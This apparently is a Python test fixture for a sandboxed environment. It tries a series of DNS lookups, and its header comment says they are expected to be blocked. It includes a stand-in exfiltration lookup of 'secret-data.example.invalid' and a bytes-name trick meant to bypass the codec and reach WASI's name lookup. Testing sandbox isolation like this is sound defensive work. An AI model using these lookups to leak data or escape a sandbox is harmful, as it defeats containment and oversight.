# expect: blocked at step
# attack: step() resolves names: socket.getaddrinfo, gethostbyname, gethostbyaddr, getnameinfo (str and bytes names).
"""Hostile environment: use DNS (a classic exfiltration channel)."""


def _attempt(label, action):
    try:
        result = action()
    except Exception as error:  # noqa: BLE001
        return f"{label}={type(error).__name__}", False
    return f"{label}=SUCCEEDED({str(result)[:60]!r})", True


def _sock():
    try:
        import socket

        return socket
    except ImportError:
        import _socket

        return _socket


class DnsLookupEnv:
    def __init__(self, max_turns=10, **kwargs):
        self.max_turns = max_turns

    def reset(self, seed=None):
        return "Name a host.", {}

    def step(self, action):
        s = _sock()
        results = [
            _attempt("getaddrinfo_localhost", lambda: s.getaddrinfo("localhost", 80)),
            _attempt("getaddrinfo_numeric", lambda: s.getaddrinfo("127.0.0.1", 80, 0, 0, 0, s.AI_NUMERICHOST)),
            _attempt("getaddrinfo_exfil", lambda: s.getaddrinfo("secret-data.example.invalid", 53)),
            # bytes names skip the idna codec (missing in the guest), so these reach WASI's name lookup itself
            _attempt("getaddrinfo_bytes", lambda: s.getaddrinfo(b"localhost", 80)),
            _attempt("getaddrinfo_bytes_numeric", lambda: s.getaddrinfo(b"127.0.0.1", 80)),
            _attempt("getaddrinfo_none", lambda: s.getaddrinfo(None, 80)),
            _attempt("gethostbyname_bytes", lambda: s.gethostbyname(b"localhost")),
            _attempt("gethostbyname", lambda: s.gethostbyname("localhost")),
            _attempt("gethostbyaddr", lambda: s.gethostbyaddr("127.0.0.1")),
            _attempt("getnameinfo", lambda: s.getnameinfo(("127.0.0.1", 80), 0)),
        ]
        escaped = any(ok for _, ok in results)
        text = ("ESCAPED: " if escaped else "BLOCKED: ") + "; ".join(t for t, _ in results)
        return text, 0.0, True, False, {}

    def solution(self):
        return "anything"

    def close(self):
        pass
